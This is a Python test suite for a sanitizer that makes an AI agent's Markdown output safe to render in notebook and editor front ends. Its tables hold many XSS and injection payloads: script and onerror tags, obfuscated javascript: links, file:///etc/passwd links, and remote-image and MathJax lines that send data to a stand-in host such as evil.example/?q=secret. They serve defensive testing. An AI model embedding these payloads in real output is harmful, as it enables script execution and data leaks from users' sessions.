"""Agent Markdown in a trusted output: nothing of it runs or loads, and ordinary replies look right.

What is safe is judged by the HTML that other parsers make of it, not by ours.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agy_kernel.display.html import block, frame
from agy_kernel.display.markdown import NO_MATH, safe, to_html
from agy_kernel.text import clean, revealed
from tests.support.renderers import RENDERERS, harm_in, jupyterlab, nbconvert, text_of, vs_code

Renderer = Callable[[str], str]

IMG = "<img src=x onerror=alert(1)>"


def assert_harmless(source: str) -> None:
    for render in RENDERERS:
        harm = harm_in(render(source))
        assert not harm, f"{render.__name__} finds {harm} in {source!r}"


# -- attacks


ATTACKS = {
    "raw HTML": f"Hello {IMG} <script>alert(1)</script>",
    "HTML block": "<div>\n<script>\nalert(1)\n</script>\n</div>",
    "comment": f"<!-- {IMG} --> <!--",
    "CDATA": f"<![CDATA[ {IMG} ]]>",
    "processing instruction": f"<?php {IMG} ?>",
    "remote image": "![x](https://evil.example/?q=secret)",
    "reference image": "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "reference image, collapsed": "![r][]\n\n[r]: https://evil.example/",
    "image in a link": "[![x](https://evil.example/p.png)](https://a.example)",
    "image in a table": "| a |\n|---|\n| ![x](https://evil.example/) |",
    "escaped image": "\\![x](https://evil.example/) !\\[x](y)",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link by entities": "[x](java&#115;cript&colon;alert(1))",
    "javascript link by escapes": "[x](javascript\\:alert(1))",
    "javascript link on two lines": "[x]: java\n  script:alert(1)\n\n[x]",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript definition": "[x]: javascript:alert(1)\n\n[x]",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "command link": "[x](command:workbench.action.terminal.new)",
    "file link": "[x](file:///etc/passwd)",
    "fence that is none for others": f"a $\n~~~ `\nx $\n~~~\ntext\n~~~\n{IMG}\n~~~",
    "quote from mathematics in a link": '[x](http://a.b/$" onmouseover="alert(1)$)',
    "quote from mathematics in a bare address": 'http://a.b/$" onmouseover="alert(1)$',
    "quote from mathematics over lines": 'http://a.b/$\n# " onmouseover="alert(1)$',
    "quote from an environment": '[x](http://a.b/\\begin{a}" onclick="alert(1)\\end{a})',
    "quote in an info string": '```x" onmouseover="alert(1)\ncode\n```',
    "tag in an info string": f'```x">{IMG}\ncode\n```',
    "quote in a nested info string": '- a\n\n  ```x" onmouseover="alert(1)\n  code\n  ```',
    "mathematics in an info string": '```x\\\\(\n" onmouseover="alert(1)\n\\\\)\n```',
    "unescaped diagram": f"```mermaid\n{IMG}\n```",
    "diagram with a tag": f"```mermaid\nA[{IMG}<br/>]\n```",
    "diagram with a picture": '```mermaid\nflowchart\nA@{ img: "https://evil.example/" }\n```',
    "blank line by an entity": "<b>\n&#32;\n!&#91;x](https://evil.example/)",
    "title that begins mathematics": '[a](http://x "\\\\\\\\(") onclick=alert(1) \\\\) <b> [b](c)',
    "display mathematics into a fence": f"$$\n\n```\n$$\n{IMG}\n```",
    "display mathematics over a fence": f"$$\n\n```\n$$\n```\n\n```\n{IMG}\n```",
    "four dollars": f"$$$$ a $$\n\n```\n$$\n{IMG}\n```",
    "mathematics that nbconvert gives up": f"\\\\[ a ```\n\n```\n{IMG}\n```\n\n\\\\\\]",
    "mathematics of two kinds": f"\\\\[\n$$\n\\\\]\n\n```\n$$\n{IMG}\n```",
    "mathematics in a lazy line": f"- a\n$$\n# b\n$$\n\n```\n$$\n{IMG}\n```",
    "mathematics in a quotation": f"> $$\n\na\n$$\n\n```\n$$\n{IMG}\n```",
    "environment over a fence": f"\\begin{{a}}\n\n```\n\\end{{a}}\n{IMG}\n```",
    "item that begins with a blank line": f"- \n- \n  ```\n\n```\n{IMG}\n```",
    "fence in an item, not closed": f"- a\n  ```\n\n```\n{IMG}\n```",
    "fence in a quotation, not closed": f"> ```\n\n```\n{IMG}\n```",
    "indented code": f"text\n\n    {IMG}\n\n\t<script>alert(1)</script>",
    "lazy continuation": f"> quoted\n{IMG}\n- item\n{IMG}",
    "setext heading": f"{IMG}\n===\n\n{IMG}\n---",
    "separator of lines": f"a\u2028```\n{IMG}\n```\u2029{IMG}",
    "control characters": "<scr\x00ipt>alert(1)</script> <\x1b[31mimg src=x onerror=alert(1)>",
    "placeholder": f"@@0@@ $x$ @@1$y$ {IMG}",
}


@pytest.mark.parametrize("source", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_comes_to_nothing(source: str) -> None:
    assert_harmless(safe(source))
    assert_harmless(to_html(source))


@pytest.mark.parametrize("render", RENDERERS)
def test_the_judge_is_awake(render: Renderer) -> None:
    """Each renderer would do harm if it were shown the agent's text as it is."""
    caught = [name for name, source in ATTACKS.items() if harm_in(render(source))]
    assert len(caught) >= 14


@pytest.mark.parametrize("name", [n for n in ATTACKS if "info string" in n or "quote from" in n])
def test_the_model_of_jupyterlab_is_as_careless_as_jupyterlab(name: str) -> None:
    assert harm_in(jupyterlab(ATTACKS[name]))


FRAGMENTS = [
    IMG, "<script>alert(1)</script>", "![x](http://evil.example/)", "![x][r]", "<svg/onload=a()>",
    '<a href="javascript:a()">x</a>', "```", "```\n", "\n```\n", "\n\n```html\n", "~~~\n",
    "~~~ `\n", "\n````\n", '```x" onmouseover="a()\n', "\n```mermaid\n", "`", "``", "$", "$$",
    "\n$$\n", "\\\\(", "\\\\)", "\\\\[", "\\\\]", "\\$", "\\begin{a}", "\\end{a}", "{", "}", '"',
    ' onmouseover="a()', "\n", "\n\n", " ", "  ", "    ", "\t", "\n- ", "\n  ", "\n    ", "\n   ",
    "\n1. ", "\n> ", "\n  ```\n", "\n> ```\n", "| a | b |\n|---|---|\n| ", " | ", "[", "](", ")",
    "[a](", "http://x.y/", "www.x.y/", "\n[r]: http://evil.example/\n", "\n[r]: ", "[a][r]",
    "javascript:a()", "java&#115;cript:", "&colon;", "&lt;", "&#60;", "&#33;", "&#91;", "&#32;",
    "\\", "\\<", "<", ">", "!", "<!--", "-->", "<![CDATA[", "]]>", "<?", "@@0@@", "@@", "0",
    "\n===\n", "\n---\n", "\n# ", "foo", "bar baz", "*", "**", "_", "~~", "<div>", "</div>",
    "<pre>", "<http://a.b>", "\n: ", "\u2028", "\r", "\x1b[31m", "\x0b", "[ ] ", "<details>",
    "command:x",
]  # fmt: skip
NASTY = st.lists(st.sampled_from(FRAGMENTS), max_size=25).map("".join)


@settings(max_examples=500, deadline=None)
@given(NASTY)
def test_no_mixture_of_nasty_things_does_harm(source: str) -> None:
    assert_harmless(safe(source))
    assert_harmless(to_html(source))


@settings(max_examples=200, deadline=None)
@given(st.lists(NASTY, min_size=2, max_size=4))
def test_safe_texts_stay_safe_side_by_side_on_one_page(sources: list[str]) -> None:
    assert_harmless("\n\n".join(map(safe, sources)))


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="<>!`~$\\[]()\"'ab \n\t-*|#&;:@0", max_size=60))
def test_no_mixture_of_signs_does_harm(source: str) -> None:
    assert_harmless(safe(source))


@pytest.mark.parametrize("source", ATTACKS.values(), ids=ATTACKS.keys())
def test_every_beginning_of_a_text_is_safe(source: str) -> None:
    for end in range(0, len(source), 3):
        assert_harmless(safe(source[:end]))


def test_our_own_html_is_one_line() -> None:
    assert "\n" not in to_html("# a\n\n- b\n- c\n\n```\nd\n\n\ne\n```\n\n<b>\n\nf  \ng")


@settings(max_examples=100, deadline=None)
@given(NASTY)
def test_html_of_ours_survives_inside_of_markdown(source: str) -> None:
    """No parser of Markdown looks for anything in it."""
    ours = to_html(source)
    assert text_of(vs_code(ours)).strip() == text_of(ours).strip()


# -- nobody waits


@pytest.mark.parametrize(
    "nasty", ["[", "> ", "- ", "*a _b ", "`a ", "[a](b", "<a", "![", "$$", "```x"]
)
def test_a_long_nasty_text_takes_a_moment(nasty: str) -> None:
    text = nasty * (12_000 // len(nasty)) + "<b>"
    assert safe(text)


# -- mathematics, which front ends look for in the page once more

FORMULAS = [
    r"$\unicode[Arial; background:url(http://evil.example/)]{x41}$",
    r"\\(\unicode[x]{x41}\\)",
    "$&#92;unicode[x]{x41}$",
    r"$\href{https://evil.example/}{Allow}$",
    r"$\style{background-image:url(http://evil.example/)}{x}$",
    r"$\class{jp-Dialog}{x}$ $\cssId{x}{y}$",
    r"$\mmlToken{mi}[href='https://evil.example/']{x}$",
    r"$\require{html}$",
    r"$\def\alpha{\beta}$",
    r"$\newcommand{\le}{>}$",
    r"$\raise 9em{\rlap{\colorbox{white}{harmless}}}$",
    r"$\hspace{-20em} x$",
    r"$\kern-9em x$",
]


@pytest.mark.parametrize("source", FORMULAS)
def test_a_formula_that_reaches_beyond_itself_is_shown_as_its_source(source: str) -> None:
    shown = safe(f"Look: {source}")
    assert shown.startswith(f"<div {NO_MATH}>")
    assert "$" not in shown
    assert "\\" not in shown


def test_html_of_ours_is_not_searched_for_mathematics() -> None:
    assert to_html("costs $5 and $6").startswith(f"<div {NO_MATH}>")
    for wrapped in (block("x"), frame("x")):
        assert wrapped.startswith(f"<div {NO_MATH}")


# -- ordinary replies


UNCHANGED = {
    "prose": "Some *words*, **more** of them, and `code`.\n\nAnother; x < y and a > b.",
    "code with generics": "Here:\n\n```cpp\nstd::vector<int> v;\nif (a<b && c>d) {}\n```\n\nDone.",
    "code that is HTML": "```html\n<div><img src='x'></div>\n```",
    "code with dollars": "```bash\necho $HOME $$ '<b>'\n```",
    "a diagram": '```mermaid\nflowchart\nA["one<br/>two"] --> B\nC <|-- D\n```',
    "nested list": "1. one\n   - a\n   - b\n2. two\n\n   text",
    "code in a list": "1. Install it:\n\n   ```bash\n   pip install x\n   ```\n\n2. Run it.",
    "table": "| a | b |\n|---|--:|\n| `x|y` | 2 |",
    "inline mathematics": "With $x_1 < y$ and $\\alpha$, \\\\(z\\\\) too.",
    "display mathematics": "$$\n\\begin{aligned} a \\\\[2pt] b \\end{aligned}\n$$\n\nor $$x$$.",
    "display mathematics in a list": "- so\n  $$\n  x\n  $$\n- and $$y$$",
    "more mathematics": "$\\frac{a}{b} \\left( \\text{a word} \\hspace{1em} \\tag{1} \\right)$",
    "environment": "\\begin{equation}\nx\n\\end{equation}",
    "links": 'See [docs](https://a.example/b?c=d&e=f "title"), https://a.example and [r],\n'
    "or [x](../y.py).\n\n[r]: https://b.example",
    "quotation": "> quoted\n> more",
    "prices": 'It costs $5, and "that" costs $7.',
    "task list": "- [ ] do\n- [x] done",
    "JavaScript in prose": "This is JavaScript: a language. Note: it runs.",
    "an at sign": "Mail @@ me, diff hunks are @@ -1,3 +1,4 @@.",
}


@pytest.mark.parametrize("source", UNCHANGED.values(), ids=UNCHANGED.keys())
def test_an_ordinary_reply_is_passed_through_as_it_is(source: str) -> None:
    assert safe(source) == source


def test_code_in_a_fence_is_shown_as_it_was_written() -> None:
    source = "# a\n```cpp\nvector<int> $x; // `y` \\\\(z\n\n\n&lt;\n```\n- b"
    for render in (nbconvert, vs_code):
        assert "vector<int> $x; // `y` \\\\(z\n\n\n&lt;\n" in text_of(render(safe(source)))


def test_code_in_a_list_is_shown_as_it_was_written() -> None:
    source = "1. Write:\n\n   ```cpp\n   vector<int> $x;\n\n     y\\n;\n   ```\n\n2. Run."
    for render in RENDERERS:
        shown = text_of(render(safe(source)))
        assert "vector<int> $x;\n\n  y\\n;\n" in shown
        assert shown.index("Write") < shown.index("vector") < shown.index("Run")


def test_only_the_block_that_needs_it_becomes_html() -> None:
    source = "First $x$.\n\nUse `List<int>` here.\n\n- last"
    assert safe(source).split("\n\n") == [
        "First $x$.",
        f"<div {NO_MATH}><p>Use <code>List&lt;int&gt;</code> here.</p></div>",
        "- last",
    ]


def test_a_table_with_generics_is_still_a_table() -> None:
    shown = vs_code(safe("| type | pipe |\n|---|---|\n| `Map<K, V>` | `a\\|b` |\n"))
    assert "<td><code>Map&lt;K, V&gt;</code></td>" in shown
    assert "<code>a|b</code>" in shown


def test_an_image_becomes_a_link_that_a_person_may_follow() -> None:
    shown = vs_code(safe("See ![the chart](https://a.example/c.png)."))
    assert '<a href="https://a.example/c.png"' in shown
    assert "the chart (image, not loaded)" in shown


def test_a_link_in_a_risky_block_still_leads_somewhere() -> None:
    source = "<b> [a](https://a.example), <https://b.example>, [c][r]\n\n[r]: https://c.example"
    shown = vs_code(safe(source))
    for host in "abc":
        assert f'href="https://{host}.example"' in shown


def test_a_fence_that_is_still_open_is_closed() -> None:
    assert safe("a\n\n```python\nx = 1") == "a\n\n```python\nx = 1\n```"


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("~~~py\nx\n~~~", "```py\nx\n```"),
        ("````md\n```py\nx\n```\n````", "````md\n```py\nx\n```\n````"),
        ('```python title="x.py"\ny\n```', "```python\ny\n```"),
        ("a\n```\nx\n```\nb", "a\n\n```\nx\n```\n\nb"),
    ],
)
def test_a_fence_is_written_in_the_form_that_all_understand(source: str, expected: str) -> None:
    assert safe(source) == expected


def test_nothing_is_lost_in_deep_lists() -> None:
    source = "\n".join(f"{'  ' * depth}- level {depth} <b>" for depth in range(14))
    assert all(f"level {depth}" in text_of(vs_code(safe(source))) for depth in range(14))


# -- clean


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\r\nb\rc", "a\nb\nc"),
        ("\x1b[1;31mred\x1b[0m", "red"),
        ("\x1b]8;;http://x\x07link\x1b]8;;\x07", "link"),
        ("\x1b]0;never ended\nnext", "\nnext"),
        ("tab\tand bell\x07", "tab\tand bell"),
        ("\u202egpj.exe", "gpj.exe"),
        ("\ud83d\ude00 \ud83d", "😀 \ufffd"),
        ("ünï", "ünï"),
    ],
)
def test_clean_leaves_text_only(text: str, expected: str) -> None:
    assert clean(text) == expected


@given(st.text())
def test_clean_is_done_at_once(text: str) -> None:
    once = clean(text)
    assert clean(once) == once
    once.encode()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ls -l\n\tx é 日本 👍", "ls -l\n\tx é 日本 👍"),
        ("cat \u202esgol", "cat ⟨U+202E⟩sgol"),
        ("rm\u200b -rf", "rm⟨U+200B⟩ -rf"),
        ("a\rb\x1b[8m", "a⟨U+000D⟩b⟨U+001B⟩[8m"),
        ("a\u00a0b\u3164\U000e0041\ud800", "a⟨U+00A0⟩b⟨U+3164⟩⟨U+E0041⟩⟨U+D800⟩"),
    ],
)
def test_of_what_would_run_everything_can_be_seen(text: str, expected: str) -> None:
    assert revealed(text) == expected
